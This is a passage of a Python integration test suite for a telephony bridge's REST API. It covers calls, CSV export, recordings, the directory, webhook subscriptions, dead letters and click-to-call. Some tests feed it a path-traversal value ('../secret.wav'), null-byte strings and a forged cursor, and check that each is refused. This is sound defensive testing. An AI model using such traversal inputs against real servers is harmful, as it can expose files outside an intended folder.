"""The native API `/api/v1`, endpoint by endpoint, against a real PostgreSQL holding every
recorded scenario: status codes, bodies, paging, filters, CSV, directory, subscriptions,
dead letters, click-to-call, the cloud-PBX requests, recordings, the OpenAPI document."""

from __future__ import annotations

import asyncio
import base64
import csv
import io
import json
from collections.abc import AsyncIterator
from contextlib import aclosing
from html import escape
from pathlib import Path
from types import SimpleNamespace
from typing import Any, TypedDict

import asyncpg
import pytest

from bridge.api.native import create_native_app
from bridge.api.native.cursor import decode
from bridge.api.native.openapi import document
from bridge.api.native.shapes import CALL_FIELDS
from bridge.api.services import DialError
from bridge.store import directory, history, targets
from bridge.store.calls import CallStore
from bridge.tracker.model import CallRecord
from tests.support.api import Api
from tests.unit.test_phone_name import NAME, with_caller_name
from tests.unit.test_tracker_traces import LAB22

EMPLOYEES = ("1001", "1002", "1003")  # logins and extensions alike


class FakeDialer:
    """Click-to-call as the AMI dialer answers it: a call id at once, DialError(400) for an
    employee the directory does not know, DialError(503) while Asterisk is away."""

    def __init__(self) -> None:
        self.placed: list[tuple[str, str, str | None]] = []
        self.down = False

    async def call(self, employee: str, number: str, clid: str | None = None) -> str:
        if self.down:
            raise DialError(503, "Asterisk is not connected")
        if employee not in EMPLOYEES:
            raise DialError(400, f"unknown employee {employee!r}")
        self.placed.append((employee, number, clid))
        return f"1795350000.{len(self.placed)}"


async def seed_directory(pool: asyncpg.Pool) -> None:
    """Employees named as the scenarios' calls name them (login = extension), a queue
    `sales` (the scenarios' group) and a ring group, two company numbers."""
    names = {"1001": "Ivan Ivanov", "1002": "Maria Petrova", "1003": "Oleg Sidorov"}
    for ext, name in names.items():
        await directory.upsert_user(pool, "lab", directory.User(ext, name, ext))
    await directory.upsert_group(
        pool, "lab", directory.Group(0, "queue", "sales", "sales", members=("1001", "1002"))
    )
    await directory.upsert_group(
        pool, "lab", directory.Group(0, "ringgroup", "support", "600", members=("1003",))
    )
    await directory.upsert_number(
        pool, "lab", directory.Number("74957654321", "Main line", "group", "1")
    )
    await directory.upsert_number(pool, "lab", directory.Number("74957654324", "Sales line"))


async def seed_dead_letters(pool: asyncpg.Pool, n: int = 3) -> list[int]:
    """A subscription `billing` with `n` histories its receiver refused for good."""
    async with pool.acquire() as conn:
        target = await targets.add_target(
            conn, "lab", targets.Subscription("billing", "http://127.0.0.1:9/hook", "secret")
        )
        rows = await conn.fetch(
            """INSERT INTO webhook_outbox (pbx_id, target_id, callid, cmd, dedupe_key,
                   webhook_id, payload, state, attempts, last_status, last_error)
               SELECT 'lab', $1, callid, 'history', 'history', 'msg_' || callid, '{}',
                      'dead', 3, 400, 'HTTP 400'
               FROM calls WHERE pbx_id = 'lab' ORDER BY started_at LIMIT $2
               RETURNING id""",
            target,
            n,
        )
    return [r["id"] for r in rows]


# ---------------------------------------------------------------- helpers

pytestmark = pytest.mark.integration

CALL_KEYS = set(CALL_FIELDS)


async def client(api: Api) -> dict[str, str]:
    """Headers of a client with a key of its own."""
    return {"X-API-Key": await api.key("crm")}


async def get_json(api: Api, path: str, h: dict[str, str], expect: int = 200, **query: Any) -> Any:
    pairs = [
        (k, str(item)) for k, v in query.items() for item in (v if isinstance(v, list) else [v])
    ]
    async with api.http.get(path, headers=h, params=pairs) as resp:
        assert resp.status == expect, (path, query, await resp.text())
        assert resp.content_type == "application/json"
        return await resp.json()


async def all_calls(api: Api, h: dict[str, str], **query: Any) -> list[dict[str, Any]]:
    return (await get_json(api, "/api/v1/calls", h, limit=1000, **query))["items"]


def ids(items: list[dict[str, Any]]) -> list[str]:
    return [c["callid"] for c in items]


# ---------------------------------------------------------------- calls


async def test_a_call_says_who_called_whom_with_names_from_the_directory(api: Api) -> None:
    await seed_directory(api.pool)
    h = await client(api)
    calls = await all_calls(api, h)
    assert len(calls) == await api.pool.fetchval("SELECT count(*) FROM calls")
    assert all(set(c) == CALL_KEYS for c in calls)
    inbound = next(c for c in calls if c["direction"] == "in" and c["user"] == "1001")
    assert (inbound["caller"], inbound["destination"]) == (inbound["phone"], inbound["diversion"])
    assert inbound["user_name"] == "Ivan Ivanov"
    outbound = next(c for c in calls if c["direction"] == "out")
    assert (outbound["caller"], outbound["destination"]) == (outbound["ext"], outbound["phone"])
    assert all(c["user_name"] == "" for c in calls if c["user"] == "")
    assert all(c["start"].endswith("Z") for c in calls)
    assert {c["status"] for c in calls} <= {
        "Success",
        "missed",
        "Cancel",
        "Busy",
        "NotAvailable",
        "NotAllowed",
        "NotFound",
    }


async def test_offset_pages_and_cursor_pages_give_the_rows_of_one_big_page(api: Api) -> None:
    h = await client(api)
    for sort, way in (("start", "desc"), ("start", "asc"), ("duration", "desc"), ("wait", "asc")):
        await same_rows_paged(api, h, sort, way)


async def same_rows_paged(api: Api, h: dict[str, str], sort: str, way: str) -> None:
    big = ids(await all_calls(api, h, sort=sort, order=way))
    by_offset: list[str] = []
    for offset in range(0, len(big), 5):
        page = await get_json(api, "/api/v1/calls", h, sort=sort, order=way, offset=offset, limit=5)
        assert page["offset"] == offset and page["limit"] == 5
        by_offset += ids(page["items"])
    assert by_offset == big
    by_cursor: list[str] = []
    query: dict[str, Any] = {"sort": sort, "order": way, "limit": 5}
    while True:
        page = await get_json(api, "/api/v1/calls", h, **query)
        by_cursor += ids(page["items"])
        if page["next"] is None:
            break
        query["after"] = page["next"]
    assert by_cursor == big
    assert len(big) > 5 and len(by_cursor) == len(set(by_cursor))


async def test_a_cursor_page_starts_in_the_index_however_deep_it_is(api: Api) -> None:
    """The next page's query seeks to the cursor in calls_page_idx: no offset to walk, no
    sort (what keeps page 10,000 as fast as page 1; the benchmark measures it)."""
    h = await client(api)
    page = await get_json(api, "/api/v1/calls", h, limit=5)
    q = history.CallQuery(limit=5, after=decode(page["next"], "start", True))
    sql, args = history.calls_sql("lab", q)
    async with api.pool.acquire() as conn, conn.transaction():
        await conn.execute("SET LOCAL enable_seqscan = off")  # 24 rows: a scan is cheaper
        plan = "\n".join(r[0] for r in await conn.fetch("EXPLAIN " + sql, *args))
    assert "Index Cond" in plan and "ROW(started_at, callid) <" in plan, plan
    assert "Sort" not in plan, plan


async def test_a_page_knows_its_total_and_whether_another_follows(api: Api) -> None:
    h = await client(api)
    n = await api.pool.fetchval("SELECT count(*) FROM calls WHERE direction = 'in'")
    page = await get_json(api, "/api/v1/calls", h, direction="in", limit=3, total="true")
    assert page["total"] == n and len(page["items"]) == 3 and page["next"]
    after = await get_json(api, "/api/v1/calls", h, direction="in", after=page["next"], total=1)
    assert after["total"] == n, "the total is of the filters, wherever the cursor is"
    assert len(after["items"]) == n - 3 and after["next"] is None
    assert "total" not in await get_json(api, "/api/v1/calls", h, limit=1)


async def test_each_filter_selects_exactly_the_calls_it_names(api: Api) -> None:
    await seed_directory(api.pool)
    h = await client(api)
    full = await all_calls(api, h)
    sales_id = await api.pool.fetchval("SELECT id FROM directory_groups WHERE name = 'sales'")
    middle = sorted(c["start"] for c in full)[len(full) // 2]
    took_part = {
        r["callid"]
        for r in await api.pool.fetch(
            "SELECT callid FROM call_events WHERE user_login = '1003' "
            "UNION SELECT callid FROM calls WHERE user_login = '1003'"
        )
    }
    two = [full[0]["callid"], full[-1]["callid"]]
    cases: list[tuple[dict[str, Any], Any]] = [
        ({"direction": "in"}, lambda c: c["direction"] == "in"),
        ({"direction": "out,internal"}, lambda c: c["direction"] in ("out", "internal")),
        ({"status": "missed"}, lambda c: c["status"] == "missed"),
        ({"status": ["Busy", "NotFound"]}, lambda c: c["status"] in ("Busy", "NotFound")),
        ({"user": "1002"}, lambda c: c["user"] == "1002"),
        ({"ext": "1001"}, lambda c: c["ext"] == "1001"),
        ({"participant": "1003"}, lambda c: c["callid"] in took_part),
        ({"group": "sales"}, lambda c: c["group"] == "sales"),
        ({"group": str(sales_id)}, lambda c: c["group"] == "sales"),
        ({"phone": "+7 (910) 123-45-67"}, lambda c: c["phone"] == "79101234567"),
        ({"phone": "89101234567"}, lambda c: c["phone"] == "79101234567"),
        ({"diversion": "74957654324"}, lambda c: c["diversion"] == "74957654324"),
        ({"q": "654324"}, lambda c: "654324" in c["diversion"] + c["phone"]),
        ({"q": "SAL"}, lambda c: c["group"] == "sales"),
        ({"from": middle}, lambda c: c["start"] >= middle),
        ({"to": middle}, lambda c: c["start"] < middle),
        ({"ended_from": middle}, lambda c: c["end"] >= middle),
        ({"callid": ",".join(two)}, lambda c: c["callid"] in two),
        ({"missed_status": 2}, lambda c: c["missed_status"] == 2),
        (
            {"direction": "in", "status": "Success", "ext": "1002"},
            lambda c: (c["direction"], c["status"], c["ext"]) == ("in", "Success", "1002"),
        ),
    ]
    for query, wanted in cases:
        expected = [c["callid"] for c in full if wanted(c)]
        got = ids(await all_calls(api, h, **query))
        assert got == expected, query
    assert {c["group"] for c in full} > {"sales"}, "the group filter had something to leave out"


async def test_sorting_by_duration_and_wait(api: Api) -> None:
    h = await client(api)
    longest = await all_calls(api, h, sort="duration")
    durations = [c["duration"] for c in longest]
    assert durations == sorted(durations, reverse=True) and durations[0] > 0
    waits = [c["wait"] for c in await all_calls(api, h, sort="wait", order="asc")]
    assert waits == sorted(waits)


BAD_QUERIES = [
    ("dirction=in", "dirction"),
    ("limit=5&limit=6", "limit"),
    ("limit=1001", "limit"),
    ("offset=-1", "offset"),
    ("offset=99999999999999999999", "offset"),
    ("status=Lost", "status"),
    ("sort=duration&order=up", "order"),
    ("phone=abc", "phone"),
    ("missed_status=x", "missed_status"),
    ("total=maybe", "total"),
    ("to=0001-01-01T00:00:00%2B05:00", "to"),
    ("q=a%00b", "q"),
    ("user=" + "x" * 201, "user"),
    ("after=bm90LWEtY3Vyc29y", "after"),
]


async def test_a_bad_parameter_is_a_400_naming_it(api: Api) -> None:
    h = await client(api)
    for query, named in BAD_QUERIES:
        async with api.http.get(f"/api/v1/calls?{query}", headers=h) as resp:
            assert resp.status == 400, query
            assert (await resp.json())["message"].startswith(named), query


async def test_a_cursor_is_only_good_for_the_order_it_was_made_in(api: Api) -> None:
    h = await client(api)
    page = await get_json(api, "/api/v1/calls", h, limit=2, sort="duration")
    for other in ({"sort": "start"}, {"sort": "duration", "order": "asc"}):
        body = await get_json(api, "/api/v1/calls", h, 400, after=page["next"], **other)
        assert body["message"].startswith("after:")
    forged = page["next"][:-4] + "AAAA"
    assert await get_json(api, "/api/v1/calls", h, 400, after=forged, sort="duration")


async def test_one_call_names_its_employees_and_unknown_calls_are_404(api: Api) -> None:
    await seed_directory(api.pool)
    h = await client(api)
    answered = (await all_calls(api, h, status="Success", direction="in"))[0]
    body = await get_json(api, f"/api/v1/calls/{answered['callid']}", h)
    assert {k: body[k] for k in CALL_KEYS} == answered
    assert body["legs"] and body["events"]
    assert {e["user_name"] for e in body["events"]} <= {
        "Ivan Ivanov",
        "Maria Petrova",
        "Oleg Sidorov",
    }
    for unknown in ("no.such.call", "%00", "x" * 300):
        assert await get_json(api, f"/api/v1/calls/{unknown}", h, 404) == {
            "message": "No such call"
        }


# ---------------------------------------------------------------- CSV


async def test_csv_export_has_a_header_and_the_rows_the_filters_select(api: Api) -> None:
    await seed_directory(api.pool)
    h = await client(api)
    expected = await all_calls(api, h, direction="in", sort="duration", order="asc")
    async with api.http.get(
        "/api/v1/calls.csv",
        headers=h,
        params={"direction": "in", "sort": "duration", "order": "asc"},
    ) as resp:
        assert resp.status == 200
        assert resp.content_type == "text/csv"
        assert "attachment" in resp.headers["Content-Disposition"]
        text = await resp.text()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(CALL_FIELDS)
    assert [r[0] for r in rows[1:]] == ids(expected)
    first = dict(zip(rows[0], rows[1], strict=True))
    call = expected[0]
    assert first["user_name"] == call["user_name"] and first["phone"] == call["phone"]
    assert first["recorded"] == "false" and first["rating"] == ""
    assert first["duration"] == str(call["duration"])
    async with api.http.get("/api/v1/calls.csv?limit=5", headers=h) as resp:
        assert resp.status == 400, "paging is not for the export"
    async with api.http.get("/api/v1/calls.csv?status=Lost", headers=h) as resp:
        assert resp.status == 400 and (await resp.json())["message"].startswith("status")


async def add_bulk_calls(pool: asyncpg.Pool, n: int) -> None:
    await pool.execute(
        """INSERT INTO calls (pbx_id, callid, born, direction, status, phone, diversion, ext,
               user_login, started_at, ended_at, duration, wait, closed_by)
           SELECT 'lab', 'bulk.' || i, call_day('bulk.' || i), 'in', 'missed',
                  '7910' || lpad(i::text, 7, '0'),
                  '74957654321', '1001', '1001',
                  timestamptz '2026-01-01' + i * interval '1 second',
                  timestamptz '2026-01-01' + i * interval '1 second' + interval '30 s',
                  0, 30, 'hangup'
           FROM generate_series(1, $1) i""",
        n,
    )


async def export_cursors(pool: asyncpg.Pool) -> int:
    """Connections of the bridge still inside an export's read-only transaction."""
    count: int = await pool.fetchval(
        """SELECT count(*) FROM pg_stat_activity
           WHERE datname = current_database() AND pid <> pg_backend_pid()
             AND state LIKE 'idle in transaction%' AND query LIKE '%FROM calls c%'"""
    )
    return count


def hold_export_after(monkeypatch: pytest.MonkeyPatch, rows: int) -> asyncio.Event:
    """The export's real cursor, held after `rows` rows until the event is set: what a
    client sees meanwhile was sent before the whole result was read."""
    gate = asyncio.Event()
    real = history.stream_calls

    async def held(*args: Any, **kwargs: Any) -> AsyncIterator[asyncpg.Record]:
        n = 0
        async with aclosing(real(*args, **kwargs)) as stream:
            async for row in stream:
                n += 1
                if n == rows:
                    await gate.wait()
                yield row

    monkeypatch.setattr(history, "stream_calls", held)
    return gate


async def test_csv_rows_stream_before_the_whole_result_is_read(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    n = 5000
    await add_bulk_calls(api.pool, n)
    h = await client(api)
    gate = hold_export_after(monkeypatch, 2000)
    async with api.http.get("/api/v1/calls.csv?order=asc", headers=h) as resp:
        assert resp.status == 200
        assert resp.headers.get("Transfer-Encoding") == "chunked"
        assert "Content-Length" not in resp.headers
        assert (await resp.content.readline()).decode().rstrip("\r\n") == ",".join(CALL_FIELDS)
        for _ in range(1000):
            assert (await resp.content.readline()).startswith(b"bulk.")
        assert await export_cursors(api.pool) == 1, "the bridge is still reading the calls"
        gate.set()
        rest = await resp.content.read()
    assert rest.count(b"\n") == n + 24 - 1000
    async with asyncio.timeout(5):
        while await export_cursors(api.pool):
            await asyncio.sleep(0.05)


async def test_a_client_leaving_an_export_early_frees_its_connection(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    await add_bulk_calls(api.pool, 5000)
    h = await client(api)
    gate = hold_export_after(monkeypatch, 2000)
    resp = await api.http.get("/api/v1/calls.csv", headers=h)
    await resp.content.readline()
    assert await export_cursors(api.pool) == 1
    resp.close()  # gone mid-body
    gate.set()
    async with asyncio.timeout(10):
        while await export_cursors(api.pool):
            await asyncio.sleep(0.05)
    async with api.http.get("/api/v1/calls", headers=h) as resp:
        assert resp.status == 200, "the bridge serves on"


# ---------------------------------------------------------------- recordings


async def test_a_recording_is_served_with_ranges_from_the_recordings_folder(
    api: Api, tmp_path: Path
) -> None:
    h = await client(api)
    api_settings = api.services.settings.api.model_copy(update={"recordings_dir": str(tmp_path)})
    api.services.settings = api.services.settings.model_copy(update={"api": api_settings})
    audio = bytes(range(256)) * 40
    (tmp_path / "call.wav").write_bytes(audio)
    callid, other, third = [
        r["callid"]
        for r in await api.pool.fetch("SELECT callid FROM calls ORDER BY started_at LIMIT 3")
    ]
    await api.pool.execute(
        "UPDATE calls SET recording = $1 WHERE callid = $2", str(tmp_path / "call.wav"), callid
    )
    async with api.http.get(f"/api/v1/calls/{callid}/recording", headers=h) as resp:
        assert resp.status == 200 and resp.content_type == "audio/wav"
        assert resp.headers["Accept-Ranges"] == "bytes"
        assert await resp.read() == audio
    async with api.http.get(
        f"/api/v1/calls/{callid}/recording", headers={**h, "Range": "bytes=100-199"}
    ) as resp:
        assert resp.status == 206 and await resp.read() == audio[100:200]
        assert resp.headers["Content-Range"] == f"bytes 100-199/{len(audio)}"
    assert (await get_json(api, f"/api/v1/calls/{callid}", h))["recorded"] is True
    # no recording; a file outside the folder; a file not written
    outside = tmp_path.parent / "secret.wav"
    outside.write_bytes(b"x")
    await api.pool.execute("UPDATE calls SET recording = $1 WHERE callid = $2", str(outside), other)
    await api.pool.execute(
        "UPDATE calls SET recording = $1 WHERE callid = $2", "../secret.wav", third
    )
    missing = await api.pool.fetchval("SELECT callid FROM calls WHERE recording = '' LIMIT 1")
    for cid, message in (
        (other, "Recording file not found"),
        (third, "Recording file not found"),
        (missing, "No recording for this call"),
        ("no.such.call", "No such call"),
    ):
        body = await get_json(api, f"/api/v1/calls/{cid}/recording", h, 404)
        assert body == {"message": message}, cid
    (tmp_path / "call.wav").unlink()
    await get_json(api, f"/api/v1/calls/{callid}/recording", h, 404)


async def test_a_range_that_is_not_one_is_ignored_and_one_past_the_end_is_a_json_416(
    api: Api, tmp_path: Path
) -> None:
    """RFC 9110 (14.2): a Range header that is not a byte range is ignored (200, the whole
    file); an unsatisfiable one is 416 with `Content-Range: bytes */<size>`, its body the
    native API's JSON error (the document says so)."""
    h = await client(api)
    api_settings = api.services.settings.api.model_copy(update={"recordings_dir": str(tmp_path)})
    api.services.settings = api.services.settings.model_copy(update={"api": api_settings})
    audio = bytes(range(256)) * 16
    (tmp_path / "call.wav").write_bytes(audio)
    callid = await api.pool.fetchval("SELECT callid FROM calls ORDER BY started_at LIMIT 1")
    await api.pool.execute("UPDATE calls SET recording = 'call.wav' WHERE callid = $1", callid)
    url = f"/api/v1/calls/{callid}/recording"
    for ignored in ("bytes=abc", "bytes=", "bytes=200-100", "items=0-9", "bytes=0-1,5-6"):
        async with api.http.get(url, headers={**h, "Range": ignored}) as resp:
            assert resp.status == 200 and resp.content_type == "audio/wav", ignored
            assert "Content-Range" not in resp.headers and await resp.read() == audio
    for past in (f"bytes={len(audio)}-", "bytes=5000-", "bytes=5000-6000"):
        async with api.http.get(url, headers={**h, "Range": past}) as resp:
            assert resp.status == 416 and resp.content_type == "application/json", past
            assert resp.headers["Content-Range"] == f"bytes */{len(audio)}"
            assert (await resp.json())["message"]
    async with api.http.get(url, headers={**h, "Range": "bytes=-100"}) as resp:
        assert resp.status == 206 and await resp.read() == audio[-100:]
    async with api.http.get(url, headers={**h, "Range": "bytes=4000-5000"}) as resp:
        assert resp.status == 206 and await resp.read() == audio[4000:]
    responses = document()["paths"]["/calls/{callid}/recording"]["get"]["responses"]
    assert responses["416"]["content"]["application/json"]["schema"] == {
        "$ref": "#/components/schemas/Error"
    }
    assert "Content-Range" in responses["416"]["headers"]


# ---------------------------------------------------------------- directory


async def test_directory_users_groups_and_numbers(api: Api) -> None:
    await seed_directory(api.pool)
    h = await client(api)
    users = await get_json(api, "/api/v1/users", h)
    assert [u["login"] for u in users["items"]] == ["1001", "1002", "1003"]
    assert users["total"] == 3
    assert users["items"][0] == {
        "login": "1001",
        "name": "Ivan Ivanov",
        "ext": "1001",
        "telnum": "",
        "mobile": "",
        "email": "",
        "position": "",
        "source": "pbx",
    }
    assert (await get_json(api, "/api/v1/users/1002", h))["name"] == "Maria Petrova"
    await get_json(api, "/api/v1/users/nobody", h, 404)

    groups = (await get_json(api, "/api/v1/groups", h))["items"]
    sales = next(g for g in groups if g["name"] == "sales")
    assert sales["kind"] == "queue"
    assert sales["members"] == [
        {"login": "1001", "name": "Ivan Ivanov", "ext": "1001"},
        {"login": "1002", "name": "Maria Petrova", "ext": "1002"},
    ]
    queues = (await get_json(api, "/api/v1/groups", h, kind="queue"))["items"]
    assert [g["name"] for g in queues] == ["sales"]
    assert await get_json(api, f"/api/v1/groups/{sales['id']}", h) == sales
    for bad in ("999999", "sales", "-1", "1" * 30):
        await get_json(api, f"/api/v1/groups/{bad}", h, 404)
    await get_json(api, "/api/v1/groups", h, 400, kind="team")

    numbers = (await get_json(api, "/api/v1/numbers", h))["items"]
    assert [n["telnum"] for n in numbers] == ["74957654321", "74957654324"]
    main = await get_json(api, "/api/v1/numbers/+74957654321", h)
    assert main["name"] == "Main line" and main["route_type"] == "group"
    await get_json(api, "/api/v1/numbers/84957654321", h)  # the national form
    await get_json(api, "/api/v1/numbers/70000000000", h, 404)
    await get_json(api, "/api/v1/numbers/abc", h, 404)


# ---------------------------------------------------------------- subscriptions


class SubscriptionBody(TypedDict):
    """A subscription as a client posts it."""

    name: str
    url: str
    token: str
    profile: str
    commands: list[str]
    direction: str
    signing_secret: str


SUB: SubscriptionBody = {
    "name": "billing",
    "url": "https://user:pa55@billing.example/hook",
    "token": "tok-SECRET-1",
    "profile": "json",
    "commands": ["history"],
    "direction": "in",
    "signing_secret": "whsec_" + base64.b64encode(b"k" * 32).decode(),
}


async def test_subscriptions_are_added_read_replaced_and_removed(api: Api) -> None:
    h = await client(api)
    async with api.http.post("/api/v1/subscriptions", headers=h, json=SUB) as resp:
        assert resp.status == 201, await resp.text()
        assert resp.headers["Location"] == "/api/v1/subscriptions/billing"
        text = await resp.text()
        created = await resp.json()
    assert SUB["token"] not in text and SUB["signing_secret"] not in text and "pa55" not in text
    assert created["url"] == "https://user:***@billing.example/hook"
    assert created["has_token"] and created["signed"] and created["enabled"]
    assert (created["profile"], created["commands"], created["direction"]) == (
        "json",
        ["history"],
        "in",
    )
    assert await get_json(api, "/api/v1/subscriptions/billing", h) == created
    listed = await get_json(api, "/api/v1/subscriptions", h)
    assert [s["name"] for s in listed["items"]] == ["billing"]

    async with api.http.post("/api/v1/subscriptions", headers=h, json=SUB) as resp:
        assert resp.status == 409, "POST does not overwrite"
    plain = {"url": "http://127.0.0.1:9/hook"}
    async with api.http.put("/api/v1/subscriptions/billing", headers=h, json=plain) as resp:
        assert resp.status == 200
        replaced = await resp.json()
    assert replaced["id"] == created["id"]
    assert (replaced["has_token"], replaced["signed"], replaced["profile"]) == (
        False,
        False,
        "vpbx",
    ), "PUT replaces: what is left out takes its default"
    async with api.http.put("/api/v1/subscriptions/second", headers=h, json=plain) as resp:
        assert resp.status == 201

    rows = await api.pool.fetch("SELECT name, token FROM webhook_targets ORDER BY id")
    assert [r["name"] for r in rows] == ["billing", "second"]
    async with api.http.delete("/api/v1/subscriptions/billing", headers=h) as resp:
        assert resp.status == 204
    await get_json(api, "/api/v1/subscriptions/billing", h, 404)
    async with api.http.delete("/api/v1/subscriptions/billing", headers=h) as resp:
        assert resp.status == 404


async def test_a_subscription_switched_off_by_a_410_is_enabled_again(api: Api) -> None:
    h = await client(api)
    async with api.http.put(
        "/api/v1/subscriptions/crm2", headers=h, json={"url": "http://127.0.0.1:9/"}
    ) as resp:
        assert resp.status == 201
    await api.pool.execute(
        "UPDATE webhook_targets SET enabled = false, disabled_reason = 'HTTP 410'"
    )
    assert not (await get_json(api, "/api/v1/subscriptions/crm2", h))["enabled"]
    async with api.http.post("/api/v1/subscriptions/crm2/enable", headers=h) as resp:
        assert resp.status == 200
        body = await resp.json()
    assert body["enabled"] and body["disabled_reason"] == ""
    async with api.http.post("/api/v1/subscriptions/none/enable", headers=h) as resp:
        assert resp.status == 404


async def test_the_primary_target_is_shown_but_changed_in_the_config_only(api: Api) -> None:
    async with api.pool.acquire() as conn:
        await targets.ensure_primary_target(
            conn, "lab", "http://crm/hook", "tok-PRIMARY-9", "vpbx", None
        )
    h = await client(api)
    primary = await get_json(api, "/api/v1/subscriptions/primary", h)
    assert primary["primary"] and primary["has_token"]
    assert "PRIMARY-9" not in json.dumps(primary)
    async with api.http.delete("/api/v1/subscriptions/primary", headers=h) as resp:
        assert resp.status == 400
    async with api.http.put(
        "/api/v1/subscriptions/primary", headers=h, json={"url": "http://x/"}
    ) as resp:
        assert resp.status == 400 and "primary" in (await resp.json())["message"]


BAD_SUBSCRIPTIONS = [
    ({**SUB, "url": "ftp://x"}, "'ftp://x' is not an http(s) URL"),
    ({**SUB, "profile": "soap"}, "profile"),
    ({**SUB, "commands": ["history", "fax"]}, "commands"),
    ({**SUB, "commands": "history"}, "commands"),
    ({**SUB, "direction": None}, "direction"),
    ({**SUB, "token": 5}, "token"),
    ({**SUB, "signing_secret": "whsec_%%%"}, "signing secret"),
    ({**SUB, "signing_secret": ""}, "signing_secret"),
    ({**SUB, "colour": "red"}, "colour"),
    ({k: v for k, v in SUB.items() if k != "url"}, "url"),
    ({**SUB, "name": "a\u0000b"}, "name"),
    ([SUB], "body"),
]


async def test_a_bad_subscription_is_a_400_naming_the_field(api: Api) -> None:
    h = await client(api)
    for body, named in BAD_SUBSCRIPTIONS:
        async with api.http.post("/api/v1/subscriptions", headers=h, json=body) as resp:
            assert resp.status == 400, body
            assert named in (await resp.json())["message"], body
    assert await api.pool.fetchval("SELECT count(*) FROM webhook_targets") == 0


async def test_bodies_must_be_json_and_small(api: Api) -> None:
    h = await client(api)
    async with api.http.post("/api/v1/subscriptions", headers=h, data="name=x") as resp:
        assert resp.status == 415 and "JSON" in (await resp.json())["message"]
    async with api.http.post(
        "/api/v1/subscriptions", headers={**h, "Content-Type": "application/json"}, data="{"
    ) as resp:
        assert resp.status == 400 and (await resp.json())["message"].startswith("body")
    deep = "[" * 5000  # nested deeper than the parser goes
    async with api.http.post(
        "/api/v1/subscriptions", headers={**h, "Content-Type": "application/json"}, data=deep
    ) as resp:
        assert resp.status == 400 and (await resp.json())["message"] == "body: not valid JSON"
    big = io.BytesIO(json.dumps({**SUB, "token": "x" * (2 << 20)}).encode())
    headers = {**h, "Content-Type": "application/json"}
    async with api.http.post("/api/v1/subscriptions", headers=headers, data=big) as resp:
        assert resp.status == 413 and (await resp.json())["message"]


# ---------------------------------------------------------------- dead letters


async def test_dead_letters_are_listed_and_redriven(api: Api) -> None:
    h = await client(api)
    dead = await seed_dead_letters(api.pool, 3)
    listed = await get_json(api, "/api/v1/dead-letters", h)
    assert listed["total"] == 3
    assert [d["id"] for d in listed["items"]] == sorted(dead, reverse=True)
    assert listed["items"][0]["target"] == "billing" and listed["items"][0]["last_status"] == 400
    assert "secret" not in json.dumps(listed)
    assert len((await get_json(api, "/api/v1/dead-letters", h, limit=1))["items"]) == 1

    async def redrive(body: Any, status: int = 200) -> Any:
        async with api.http.post("/api/v1/dead-letters/redrive", headers=h, json=body) as r:
            assert r.status == status, await r.text()
            return await r.json()

    assert await redrive({"ids": [dead[0], 999999]}) == {"redriven": 1}
    assert (
        await api.pool.fetchval("SELECT state FROM webhook_outbox WHERE id = $1", dead[0])
        == "pending"
    )
    assert (await get_json(api, "/api/v1/dead-letters", h))["total"] == 2
    for bad in (
        {},
        {"all": False},
        {"ids": [1], "all": True},
        {"ids": ["1"]},
        {"ids": [True]},
        {"ids": [0]},
        {"ids": 5},
        {"all": "yes"},
    ):
        assert (await redrive(bad, 400))["message"]
    assert await redrive({"all": True}) == {"redriven": 2}
    assert (await get_json(api, "/api/v1/dead-letters", h))["items"] == []


# ---------------------------------------------------------------- click-to-call


async def test_click_to_call_answers_the_call_id_at_once(api: Api) -> None:
    h = await client(api)
    dialer = FakeDialer()

    async def dial(body: Any, status: int, path: str = "/api/v1/dial") -> Any:
        async with api.http.post(path, headers=h, json=body) as resp:
            assert resp.status == status, await resp.text()
            return await resp.json()

    assert (await dial({"employee": "1001", "number": "+79101234567"}, 503))["message"]
    api.services.dialer = dialer
    assert await dial({"employee": "1001", "number": "+79101234567"}, 201) == {
        "callid": "1795350000.1"
    }
    await dial({"employee": "1002", "number": "89101234567", "clid": "+74957654321"}, 201)
    assert await dial({"user": "1003", "number": "+442071234567"}, 201, "/api/v1/cloud/call")
    assert dialer.placed == [
        ("1001", "79101234567", None),
        ("1002", "79101234567", "74957654321"),
        ("1003", "442071234567", None),
    ]
    assert await dial({"employee": "9999", "number": "+79101234567"}, 400) == {
        "message": "unknown employee '9999'"
    }
    for bad, named in (
        ({"employee": "1001", "number": "+7 910 123"}, "number"),
        ({"employee": "1001", "number": 79101234567}, "number"),
        ({"employee": "1001"}, "number"),
        ({"number": "+79101234567"}, "employee"),
        ({"employee": "1001", "number": "+79101234567", "clid": "x"}, "clid"),
        ({"employee": "1001", "number": "+79101234567", "when": "now"}, "when"),
    ):
        assert (await dial(bad, 400))["message"].startswith(named), bad
    dialer.down = True
    assert await dial({"employee": "1001", "number": "+79101234567"}, 503) == {
        "message": "Asterisk is not connected"
    }
    assert len(dialer.placed) == 3


# ---------------------------------------------------------------- cloud PBX requests

CLOUD_KEYS = {
    "call_id",
    "type",
    "caller_id",
    "caller_name",
    "destination",
    "user_name",
    "extension",
    "group",
    "date",
    "duration",
    "status",
}


async def test_cloud_user_queue_and_ring_group_calls(api: Api) -> None:
    await seed_directory(api.pool)
    h = await client(api)
    mine = await get_json(api, "/api/v1/cloud/user-calls", h, users="1003", limit=1000)
    assert mine["items"] and all(set(c) == CLOUD_KEYS for c in mine["items"])
    took_part = ids(await all_calls(api, h, participant="1003"))
    assert [c["call_id"] for c in mine["items"]] == took_part
    assert mine["total"] == len(took_part)
    both = await get_json(api, "/api/v1/cloud/user-calls", h, users="1001,1002", limit=1000)
    assert both["total"] == len(await all_calls(api, h, participant="1001,1002"))

    queue = await get_json(api, "/api/v1/cloud/queue-calls", h, queues="sales")
    assert queue["total"] == 3 and {c["group"] for c in queue["items"]} == {"sales"}
    sales_id = await api.pool.fetchval("SELECT id FROM directory_groups WHERE name = 'sales'")
    assert await get_json(api, "/api/v1/cloud/queue-calls", h, queues=str(sales_id)) == queue
    ring = await get_json(api, "/api/v1/cloud/ring-group-calls", h, groups="support")
    assert ring == {"items": [], "total": 0, "offset": 0, "limit": 100}

    answered = next(c for c in queue["items"] if c["status"] == "Success")
    assert answered["type"] == "inbound" and answered["user_name"] == "Maria Petrova"
    assert answered["extension"] == "1002" and answered["caller_name"] == ""
    assert answered["date"].endswith("Z")


async def test_cloud_offset_limit_and_sort(api: Api) -> None:
    h = await client(api)
